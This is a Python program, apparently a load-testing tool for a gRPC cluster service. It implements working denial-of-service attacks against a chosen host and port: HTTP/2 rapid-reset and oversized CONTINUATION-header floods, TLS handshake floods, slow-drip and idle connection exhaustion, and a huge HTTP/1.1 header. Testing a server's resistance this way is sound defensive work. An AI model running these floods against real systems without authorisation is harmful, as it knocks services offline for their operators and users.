"""Attacks on a port by a peer without credentials, as a program of its own.

attacks.py KIND HOST:PORT SOURCE SECONDS prints how many connections it has opened.
"""

import contextlib
import socket
import ssl
import struct
import sys
import time

STREAMS = 500  # per connection of a rapid reset


def frame(kind, flags, stream, payload):
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """A header field of HPACK, which later blocks of headers can refer to by one byte."""
    return b"\x40" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


FIELDS = [(":method", "POST"), (":scheme", "http"), (":path", "/muster.v1.ClusterService/ListNodes"),
          (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
HEADERS = b"".join(field(*pair) for pair in FIELDS)
# The newest field has index 62.
SAME_HEADERS = bytes(0x80 | 62 + i for i in reversed(range(len(FIELDS))))
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
CANCEL = struct.pack(">I", 8)
# A field of 16,000 bytes: a length of 127 and more takes further bytes.
LARGE_FIELD = b"\x00\x01x\x7f\x81\x7c" + b"x" * 16_000

RESETS = PREFACE + b"".join(
    frame(1, 4, stream, HEADERS if stream == 1 else SAME_HEADERS) + frame(3, 0, stream, CANCEL)
    for stream in range(1, 2 * STREAMS, 2))
LARGE_HEADERS = PREFACE + frame(1, 0, 1, HEADERS) + frame(9, 0, 1, LARGE_FIELD) * 64
REQUEST = b"GET /readyz HTTP/1.1\r\nHost: localhost\r\n"

# kind: connections at a time, the bytes that each sends, and what it does: "flood" sends all at once and ends,
# "drip" sends a byte a second, "idle" sends all and waits, until the server closes the connection.
KINDS = {
    "reset": (200, RESETS, "flood"),
    "headers": (50, LARGE_HEADERS, "flood"),
    "handshakes": (50, b"", "flood"),
    "slow": (200, PREFACE + frame(1, 4, 1, HEADERS), "drip"),
    "idle": (1000, b"", "idle"),
    "http-slow": (200, REQUEST, "drip"),
    "http-idle": (1000, b"", "idle"),
    "http-headers": (50, REQUEST + b"X-Large: " + b"x" * 1_000_000, "flood"),
}


class Connection:
    def __init__(self, target, source, kind, context):
        _, self.payload, self.manner = KINDS[kind]
        self.sent = 0
        self.start = time.monotonic()
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.bind((source, 0))
        self.socket.connect_ex(target)
        self.handshake = False
        if context:
            with contextlib.suppress(OSError):  # refused
                self.socket = context.wrap_socket(self.socket, do_handshake_on_connect=False)
                self.handshake = True

    def goes_on(self):
        """Sends and receives what it can without waiting; whether there is more to do."""
        try:
            if self.handshake:
                self.socket.do_handshake()
                self.handshake = False
            end = len(self.payload)
            if self.manner == "drip":
                end = min(end, 1 + int(time.monotonic() - self.start))
            while self.sent < end:
                self.sent += self.socket.send(self.payload[self.sent:min(end, self.sent + 65536)])
            if self.manner == "flood":
                return False
            while self.socket.recv(65536):
                pass
            return False
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        except OSError:
            return False


def attack(kind, target, source, seconds):
    """Keeps the attack's number of connections for this time. Returns how many it has opened."""
    context = None
    if kind.endswith("-tls"):
        kind = kind.removesuffix("-tls")
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
    count, _, manner = KINDS[kind]
    opened = 0
    connections = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        new = [Connection(target, source, kind, context) for _ in range(count - len(connections))]
        opened += len(new)
        going_on = []
        for connection in connections + new:
            if connection.goes_on():
                going_on.append(connection)
            else:
                connection.socket.close()
        connections = going_on
        time.sleep(0.001 if manner == "flood" else 0.05)
    return opened


if __name__ == "__main__":
    host, port = sys.argv[2].rsplit(":", 1)
    print(attack(sys.argv[1], (host, int(port)), sys.argv[3], float(sys.argv[4])))
